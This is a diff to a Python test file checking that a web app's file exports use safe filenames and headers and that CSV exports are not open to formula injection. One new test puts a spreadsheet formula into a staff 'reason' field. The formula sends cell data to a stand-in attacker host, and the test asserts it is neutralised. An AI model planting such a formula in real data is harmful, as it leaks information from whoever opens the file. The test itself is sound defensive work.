@@ -1,6 +1,7 @@
 """Files: how large, what kind, where they lie, and how they are handed out."""
 
 import ast
+import csv
 import gzip
 import io
 import json
@@ -122,17 +123,33 @@ def test_checklist_40_a_download_is_saved_and_its_name_is_harmless(world: World)
     odd = next(slug for slug, title in slugs.items() if re.search("[åäöÅÄÖ]", title))
     with world.restored():
         got["guide"] = world.open("owner", f"/workshops/{odd}/downloads", "POST")
+    with world.restored():
+        got["looks"] = world.open("privacy", "/admin/looks/export", "POST")
+        log = {"kind": "csv"}
+        got["log"] = world.open("privacy", "/admin/audit/export", "POST", data=log)
     for what, answer in got.items():
         assert answer.status_code == 200, what
         header = answer.headers["Content-Disposition"]
         assert header.startswith("attachment; filename"), what
         name = re.search(r'filename="?([^";]+)"?', header)
         assert name
-        assert re.fullmatch(r"[A-Za-z0-9 ._-]+\.(zip|json|pdf)", name.group(1)), header
+        assert re.fullmatch(r"[A-Za-z0-9 ._-]+\.(zip|json|pdf|csv)", name.group(1)), header
         assert header.isascii()
         assert answer.headers["X-Content-Type-Options"] == "nosniff"
         assert answer.headers["Cache-Control"] == "no-store"
-        assert answer.mimetype in {"application/zip", "application/json", "application/pdf"}
+        kind = answer.mimetype.split("/")[1]
+        assert kind in {"zip", "json", "pdf", "csv"}
         found[what] = header
     assert "filename*=UTF-8''" in found["guide"]
     assert json.loads(got["consent"].data)
+
+
+def test_checklist_35_what_staff_wrote_is_no_formula_either(world: World) -> None:
+    with world.restored():
+        reason = {"reason": '=HYPERLINK("http://evil.test?"&A1;"Klicka")'}
+        path = f"/admin/users/{world.ids['user_id']}/looks"
+        assert world.open("support", path, "POST", data=reason).status_code == 303
+        sent = world.open("privacy", "/admin/looks/export", "POST").data.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(sent)) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
